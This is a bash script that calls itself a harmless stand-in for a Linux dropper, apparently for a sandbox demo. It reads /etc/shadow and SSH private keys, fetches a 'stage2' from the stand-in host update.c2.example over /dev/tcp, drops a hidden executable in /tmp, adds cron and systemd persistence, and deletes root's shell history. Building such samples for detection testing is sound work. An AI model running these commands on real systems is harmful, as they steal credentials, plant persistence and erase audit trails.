#!/bin/bash
# A harmless stand-in for a Linux dropper, bundled for `make run`. It behaves like one
# (persistence, credential access, a download from a C2 name, a dropped payload) but
# only inside the sandbox guest, against the simulated internet and decoy files.
# Never run it on a host: it is stored without the executable bit.

# Look around.
id
uname -a
cat /etc/os-release 2>/dev/null | head -n 2

# Credential access: the user's keys and the shadow file.
cat /etc/shadow >/dev/null 2>&1
ls -la /home/*/.ssh/ 2>/dev/null
cat /home/*/.ssh/id_rsa >/dev/null 2>&1

# Command and control: resolve and contact a C2 name, over the simulated internet.
getent hosts update.c2.example || true
exec 3<>/dev/tcp/update.c2.example/80 &&
	printf 'GET /stage2 HTTP/1.1\r\nHost: update.c2.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) sandtrap-demo\r\nConnection: close\r\n\r\n' >&3 &&
	head -c 200 <&3
exec 3<&-

# Drop a payload and make it executable.
printf '#!/bin/sh\nwhile :; do sleep 60; done\n' > /tmp/.cache-update
chmod +x /tmp/.cache-update

# Persistence: cron and a systemd unit.
echo '*/5 * * * * root /tmp/.cache-update' > /etc/cron.d/cache-update
mkdir -p /etc/systemd/system
printf '[Service]\nExecStart=/tmp/.cache-update\n[Install]\nWantedBy=multi-user.target\n' \
	> /etc/systemd/system/cache-update.service

# Cover tracks.
rm -f /root/.bash_history
echo done
